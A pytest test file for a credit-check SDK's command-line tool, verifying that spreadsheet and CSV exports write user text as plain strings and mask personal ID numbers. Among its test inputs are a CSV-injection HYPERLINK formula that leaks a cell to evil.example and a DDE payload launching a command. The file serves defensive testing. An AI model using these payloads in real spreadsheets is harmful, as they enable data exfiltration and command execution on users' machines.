"""Every file the CLI writes: user text goes out as text (never a formula), personal ids masked.

Officials open these files in Excel or WPS. A name like ``=HYPERLINK(…)`` or a
DDE payload must arrive as a string cell (XLSX) or with the OWASP ``'`` prefix
(CSV), and no id that may be a person's is written whole, whatever its length.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from test_cli_screen import DEFAULTER, PERSON, PERSON_MASKED, run_screen

from credit_check_sdk._cells import FORMULA_START
from credit_check_sdk._time import today
from credit_check_sdk.cli import main
from credit_check_sdk.journal import Journal
from credit_check_sdk.testing import FakePlatform

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "=2+2", "\t=1+1", " =1+1", "＝1+1"]
#: Those a one-line text takes (an operator, a case id …); a reason may span lines.
ONE_LINE = [f for f in FORMULAS if "\t" not in f]

#: Personal numbers that are not valid ids: 17, 19, 20 digits, the old card, a letter typo.
BAD_PERSONAL = [
    "44200019900101123",
    "4420001990010112345",
    "44200019900101123456",
    "442000900101123",
    "44200019900I011234",
]


@pytest.fixture
def fake() -> Iterator[FakePlatform]:
    platform = FakePlatform(agency_id="AG-FILES")
    platform.add_entry(DEFAULTER, "black", "court_judgment_defaulter")
    platform.serve()
    yield platform
    platform.stop()


def _no_formula_cells(path: Path) -> list[Any]:
    """Every cell value of the workbook, after checking that none is a formula."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml, name
                assert b"<f " not in xml, name
    wb = load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_csv_safe(cells: list[str]) -> None:
    for cell in cells:
        assert cell[:1] not in FORMULA_START, cell
        assert cell.lstrip(" ")[:1] not in FORMULA_START, cell


def _screen_input(tmp_path: Path) -> Path:
    rows = [["统一社会信用代码", "企业名称"]]
    rows += [[DEFAULTER, formula] for formula in FORMULAS]
    rows.append([PERSON, HYPERLINK])
    rows += [[bad, "某某"] for bad in BAD_PERSONAL]  # invalid rows
    rows.append([DDE, DDE])  # a formula as the id: an invalid row
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def test_screen_xlsx_writes_formulas_as_text_and_masks_every_personal_number(
    fake: FakePlatform, tmp_path: Path
) -> None:
    out = tmp_path / "result.xlsx"
    done = run_screen(
        fake, tmp_path / "sdk", str(_screen_input(tmp_path)), "--matter", "bidding",
        "--out", str(out),
    )  # fmt: skip
    text = done.stdout + done.stderr
    assert done.returncode == 1, text  # the invalid rows
    values = _no_formula_cells(out)
    for formula in FORMULAS:
        assert formula.strip() in values, formula  # written, as the text it is (trimmed)
    assert DDE in values  # the invalid row's id and name
    wb = load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] == "=":
                    assert cell.quotePrefix  # stays text when an official edits the cell
    shown = "\n".join(str(v) for v in values)
    for number in [PERSON, *BAD_PERSONAL]:
        assert number not in shown
        assert number not in text  # nor in the console table
    assert PERSON_MASKED in shown
    assert "4420*********1123" in shown  # 17 digits: masked as well, still recognisable


def test_screen_csv_and_json_quote_formulas_and_mask(fake: FakePlatform, tmp_path: Path) -> None:
    out = tmp_path / "result.csv"
    done = run_screen(
        fake, tmp_path / "sdk", str(_screen_input(tmp_path)), "--matter", "bidding",
        "--out", str(out), "--json",
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese text right
    written = raw.decode("utf-8-sig")
    cells = _csv_cells(written)
    _assert_csv_safe(cells)
    for formula in FORMULAS:
        assert "'" + formula.strip() in cells, formula
    assert "'" + DDE in cells
    assert "invalid" in cells
    for number in [PERSON, *BAD_PERSONAL]:
        assert number not in written
        assert number not in done.stdout + done.stderr
    doc = json.loads(done.stdout)
    assert {i["value"] for i in doc["invalid"]} >= {"4420*********1123", "442*********123"}


@pytest.fixture
def journal_dir(tmp_path: Path) -> Path:
    """A journal whose free texts are formulas, with a person checked."""
    fake = FakePlatform(agency_id="AG-FILES")
    fake.add_entry(DEFAULTER, "black", "court_judgment_defaulter")
    with fake.checker(tmp_path) as checker:
        for i, formula in enumerate(FORMULAS):
            one_line = formula if formula in ONE_LINE else "-" + formula.strip()
            matter = {"category": "bidding", "case_id": f"C-{i}"}
            d = checker.must_check(
                DEFAULTER,
                _matter(matter, code=one_line),
                operator=one_line,
                department=one_line,
            )
            checker.record_action(d.check_id, "not_applied", reason=formula, operator=one_line)
        checker.must_check(PERSON, "bidding", operator=HYPERLINK)
    return tmp_path


def _matter(fields: dict[str, str], *, code: str) -> Any:
    from credit_check_sdk import Matter

    return Matter(fields["category"], code=code, case_id=fields["case_id"])


def test_journal_export_csv_quotes_formulas_and_masks(
    journal_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = journal_dir / "export.csv"
    args = ["journal", "export", "--format", "csv", "--out", str(out)]
    assert main([*args, "--data-dir", str(journal_dir)]) == 0
    written = out.read_text(encoding="utf-8-sig")
    cells = _csv_cells(written)
    _assert_csv_safe(cells)
    for formula in ONE_LINE:
        assert cells.count("'" + formula) >= 4, formula  # operator, department, code, reason
    assert "'\t=1+1" in cells  # a reason
    assert PERSON not in written
    assert PERSON_MASKED in cells
    capsys.readouterr()
    # To standard output as well.
    assert main(["journal", "export", "--format", "csv", "--data-dir", str(journal_dir)]) == 0
    _assert_csv_safe(_csv_cells(capsys.readouterr().out))


def test_journal_export_jsonl_keeps_records_verbatim(
    journal_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """JSON lines are for re-verifying the chain: strings stay JSON strings, exactly as hashed."""
    out = journal_dir / "export.ndjson"
    args = ["journal", "export", "--format", "jsonl", "--out", str(out)]
    assert main([*args, "--data-dir", str(journal_dir)]) == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    with Journal(journal_dir / "journal.sqlite3") as journal:
        for record in records:
            assert journal.get(record["id"]) == record
    operators = {r.get("operator") for r in records}
    assert set(ONE_LINE) <= operators


def test_report_xlsx_writes_formulas_as_text_and_masks(journal_dir: Path) -> None:
    out = journal_dir / "report.xlsx"
    period = f"{today():%Y-%m}"
    args = ["report", period, "--agency-id", "AG-FILES", "--data-dir", str(journal_dir)]
    assert main([*args, "--xlsx", str(out)]) == 0
    values = _no_formula_cells(out)
    shown = "\n".join(str(v) for v in values)
    for formula in FORMULAS:
        assert formula.strip() in shown, formula  # the override reasons, as text
    assert PERSON not in shown
